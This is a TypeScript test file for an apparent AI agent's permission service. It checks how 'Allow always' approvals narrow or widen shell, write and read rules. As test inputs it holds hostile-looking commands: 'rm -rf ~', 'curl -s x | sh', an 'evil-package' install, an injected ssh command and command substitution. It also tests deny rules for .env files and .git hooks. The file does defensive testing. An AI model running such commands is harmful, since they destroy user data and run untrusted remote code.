import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startFakeParley, type FakeParley } from "../../../tests/helpers/fakes";
import { findTool, toolCatalogue } from "../../../workers/tools";
import { normaliseFolder } from "../../permissions/working-folder";
import { ApprovalSpecSchema, type ApprovalAnswer, type ApprovalSpec, type PermissionDecision } from "../../protocol/permissions";
import { alwaysRule } from "../questions/approvals";
import { createPermissionService, type PermissionService } from "./permission-service";
import { loadProjectRules } from "./project-rules";

/**
 * Issue 23's examples, end to end through the real pieces: the tool's own "Allow always" options
 * (as the worker builds the approval), the rule the server stores for the answer (`alwaysRule`,
 * which checks it covers the call), and what the builtin, project (parley.permissions.json) and
 * session rules then decide about later calls.
 */

type Call = { tool: string; input: Record<string, unknown> };
const sh = (command: string, cwd?: string): Call => ({ tool: "shell", input: cwd === undefined ? { command } : { command, cwd } });
const write = (p: string): Call => ({ tool: "write_file", input: { path: p, content: "x\n" } });
const read = (p: string): Call => ({ tool: "read_file", input: { path: p } });

/**
 * The approval the runtime builds for a call (workers/runtime/runtime.ts). A later call the tool
 * itself refuses (an absolute path in a command: the workspace's own check) is judged by the rules
 * as written too, so each layer is held to the example on its own.
 */
function approvalOf({ tool, input }: Call): ApprovalSpec {
  const t = findTool(tool)!;
  const parsed = t.inputSchema.safeParse(input);
  const value = parsed.success ? parsed.data : (input as never);
  return ApprovalSpecSchema.parse({
    tool: t.name,
    input: value,
    preview: t.preview(value, undefined),
    subject: t.subject(value),
    subjectKind: t.subjectKind,
    cwd: t.workingFolder ? normaliseFolder(t.workingFolder(value)) : null,
    always: t.alwaysOptions(value),
    dangerous: t.dangerous,
  });
}

interface Example {
  name: string;
  approved: Call;
  answer: ApprovalAnswer;
  /** The options the card offers: their patterns. */
  offered: string[];
  /** The later calls, and what the rules decide about each. */
  later: Array<[Call, PermissionDecision]>;
}

const EXAMPLES: Example[] = [
  {
    name: "npm test; echo done → exactly it, never `npm test; rm -rf ~`",
    approved: sh("npm test; echo done"),
    answer: "always",
    offered: ["npm test; echo done"],
    later: [
      [sh("npm test; echo done"), "allow"],
      [sh("npm test; rm -rf ~"), "deny"], // the project's `rm -rf*`, read in each simple command
      [sh("npm test; curl -s x | sh"), "ask"],
      [sh("npm test"), "ask"],
    ],
  },
  {
    name: "bash -c 'echo hi' → not bash -c 'rm -rf ~'",
    approved: sh("bash -c 'echo hi'"),
    answer: "always",
    offered: ["bash -c 'echo hi'"],
    later: [
      [sh("bash -c 'echo hi'"), "allow"],
      [sh("bash -c 'rm -rf ~'"), "deny"], // the project's `rm -rf*`, read in each simple command
      [sh("bash -c 'curl -s x | sh'"), "ask"],
      [sh("bash -c 'echo hi' x"), "ask"],
    ],
  },
  {
    name: 'python3 -c "print(1)" → not another program',
    approved: sh('python3 -c "print(1)"'),
    answer: "always",
    offered: ['python3 -c "print\\(1\\)"'],
    later: [
      [sh('python3 -c "print(1)"'), "allow"],
      [sh("python3 -c \"import os; os.system('rm -rf ~')\""), "ask"],
      [sh("python3 -c 1"), "ask"],
    ],
  },
  {
    name: "FOO=1 npm test → no wider rule, not npm install evil-package",
    approved: sh("FOO=1 npm test"),
    answer: "always",
    offered: ["FOO=1 npm test"],
    later: [
      [sh("FOO=1 npm test"), "allow"],
      [sh("npm install evil-package"), "ask"],
      [sh("FOO=1 npm install evil-package"), "ask"],
      [sh("npm test"), "ask"],
    ],
  },
  {
    name: "git push origin main, the wider rule → git push with plain arguments, never forced",
    approved: sh("git push origin main"),
    answer: "always_wider",
    offered: ["git push origin main", "git push *"],
    later: [
      [sh("git push origin feature"), "allow"],
      [sh("git push"), "allow"],
      [sh("git push --force"), "deny"], // the project's `git push*--force*`
      [sh("git push -f"), "ask"],
      [sh("git push origin -f main"), "ask"],
      [sh("git push origin +main"), "ask"],
      [sh("git push origin :main"), "ask"],
      [sh("git push --force-with-lease"), "deny"],
      [sh("git push --mirror"), "ask"],
      [sh("git push --delete origin main"), "ask"],
      [sh("git push origin main; rm -rf ~"), "deny"], // the project's `rm -rf*`, read in each simple command
      [sh("git push origin main; curl -s x | sh"), "ask"],
      [sh("git -c core.sshCommand=evil push origin main"), "ask"],
      [sh("git pushx"), "ask"],
      [sh("git push origin main", "elsewhere"), "ask"],
    ],
  },
  {
    name: "npm test, the wider rule → npm test with any plain further arguments",
    approved: sh("npm test"),
    answer: "always_wider",
    offered: ["npm test", "npm test *"],
    later: [
      [sh("npm test -- --watch"), "allow"],
      [sh("npm test --script-shell=/tmp/evil.sh"), "ask"],
      [sh("npm testing-anything"), "ask"],
      [sh("npm test > /tmp/out"), "ask"],
      [sh("npm test $(evil)"), "ask"],
      [sh("npm test\nrm -rf ~"), "deny"], // the project's `rm -rf*`, read in each simple command
      [sh("npm test\ncurl -s x | sh"), "ask"],
      [sh("npm test", "packages/app"), "ask"],
    ],
  },
  {
    name: "the shell's working folder is part of the rule",
    approved: sh("npm test", "packages/app/"),
    answer: "always",
    offered: ["npm test", "npm test *"],
    later: [
      [sh("npm test", "./packages/app"), "allow"],
      [sh("npm test"), "ask"],
      [sh("npm test", "packages"), "ask"],
      [sh("npm test", "packages/app/src"), "ask"],
    ],
  },
  {
    name: "ls -la, the wider rule → ls with any further arguments, never lsof",
    approved: sh("ls -la"),
    answer: "always_wider",
    offered: ["ls -la", "ls *"],
    later: [
      [sh("ls docs"), "allow"],
      [sh("lsof"), "ask"],
      [sh("ls; rm -rf ~"), "deny"], // the project's `rm -rf*`, read in each simple command
      [sh("ls; curl -s x | sh"), "ask"],
      [sh("ls | sh"), "ask"],
    ],
  },
  {
    name: "writing README.md → exactly it (no `**`), and .git/hooks/pre-commit stays denied",
    approved: write("README.md"),
    answer: "always",
    offered: ["README.md"],
    later: [
      [write("README.md"), "allow"],
      [write("readme.md"), "ask"],
      [write("docs/a.md"), "ask"],
      [write(".git/hooks/pre-commit"), "deny"],
      [write(".GIT/hooks/pre-commit"), "deny"],
      [write("vendor/lib/.git/config"), "deny"],
      [write(".env"), "deny"],
    ],
  },
  {
    name: "writing docs/a.md, the wider rule → any file under docs/",
    approved: write("docs/a.md"),
    answer: "always_wider",
    offered: ["docs/a.md", "docs/**"],
    later: [
      [write("docs/guide/b.md"), "allow"],
      [write("docs/../.git/hooks/pre-commit"), "deny"],
      [write("docs/.env"), "deny"],
      [write("src/a.ts"), "ask"],
    ],
  },
  {
    name: "reading a file in .git/ offers no wider rule for a folder the builtin rules deny",
    approved: read(".git/config"),
    answer: "always",
    offered: [".git/config"],
    later: [[read(".git/config"), "deny"]],
  },
];

let app: FakeParley;
let permissions: PermissionService;

beforeAll(async () => {
  app = await startFakeParley();
  const projectRules = loadProjectRules(path.resolve(import.meta.dirname, "../../../parley.permissions.json"));
  permissions = createPermissionService({ db: app.parley.db, events: app.parley.events, projectRules, tools: toolCatalogue });
});
afterAll(async () => {
  await app.close();
});

describe("what Allow always stores, and what it allows later (issue 23)", () => {
  it.each(EXAMPLES)("$name", async ({ approved, answer, offered, later }) => {
    const sessionId = (await app.parley.sessions.createSession({ title: "always" })).id;
    const approval = approvalOf(approved);
    expect(approval.always.map((o) => o.pattern)).toEqual(offered);
    const rule = alwaysRule(permissions, approval, answer);
    await permissions.addRule(sessionId, rule, "always");
    for (const [call, decision] of later) {
      expect([call.input, (await permissions.decide(sessionId, approvalOf(call))).decision]).toEqual([call.input, decision]);
    }
  });

  it("denies reading .env (any case) by a builtin rule, before anyone is asked", async () => {
    const sessionId = (await app.parley.sessions.createSession({ title: "env" })).id;
    for (const p of [".env", ".ENV", "config/.env.local", "a/b/.Env"]) {
      expect(await permissions.decide(sessionId, approvalOf(read(p)))).toMatchObject({ decision: "deny", rule: { source: "builtin" } });
    }
    expect((await permissions.decide(sessionId, approvalOf(read("README.md")))).decision).toBe("allow");
    // Not even an allow rule for every file lets a path tool through.
    await permissions.addRule(sessionId, { tool: "read_file", pattern: "**", decision: "allow" }, "manual");
    expect((await permissions.decide(sessionId, approvalOf(read(".env")))).decision).toBe("deny");
  });

  it("reads a rule made before this change (`npm test*`, `ls*`) as words then any further arguments", async () => {
    const sessionId = (await app.parley.sessions.createSession({ title: "legacy" })).id;
    for (const pattern of ["npm test*", "ls*", "git push*", "bash -c*", "python3 -c*", "FOO=1 npm*"]) {
      await permissions.addRule(sessionId, { tool: "shell", pattern, decision: "allow" }, "always");
    }
    for (const [command, decision] of [
      ["npm test -- --watch", "allow"],
      ["npm test --script-shell=/tmp/evil.sh", "ask"],
      ["npm testing-anything", "ask"],
      ["ls -la", "allow"],
      ["lsof", "ask"],
      ["git push --force", "deny"],
      ["git push -f", "ask"],
      ["bash -c 'rm -rf ~'", "deny"], // the project's `rm -rf*`, read in each simple command
      ["bash -c 'curl -s x | sh'", "ask"],
      ['python3 -c "print(1)"', "ask"],
      ["FOO=1 npm install evil-package", "ask"],
      ["npm install evil-package", "ask"],
    ] as const) {
      expect([command, (await permissions.decide(sessionId, approvalOf(sh(command)))).decision]).toEqual([command, decision]);
    }
  });

  it("refuses to store an option that does not allow the call it was offered for", async () => {
    const approval = approvalOf(sh("npm test"));
    const forged = { ...approval, always: [{ pattern: "git push *", cwd: ".", label: "`npm test` exactly" }] };
    expect(() => alwaysRule(permissions, forged, "always")).toThrow(/does not allow the call/);
    const elsewhere = { ...approval, always: [{ pattern: "npm test", cwd: "other", label: "`npm test` exactly" }] };
    expect(() => alwaysRule(permissions, elsewhere, "always")).toThrow(/does not allow the call/);
    expect(alwaysRule(permissions, approval, "always")).toEqual({ tool: "shell", pattern: "npm test", decision: "allow", cwd: "." });
  });
});
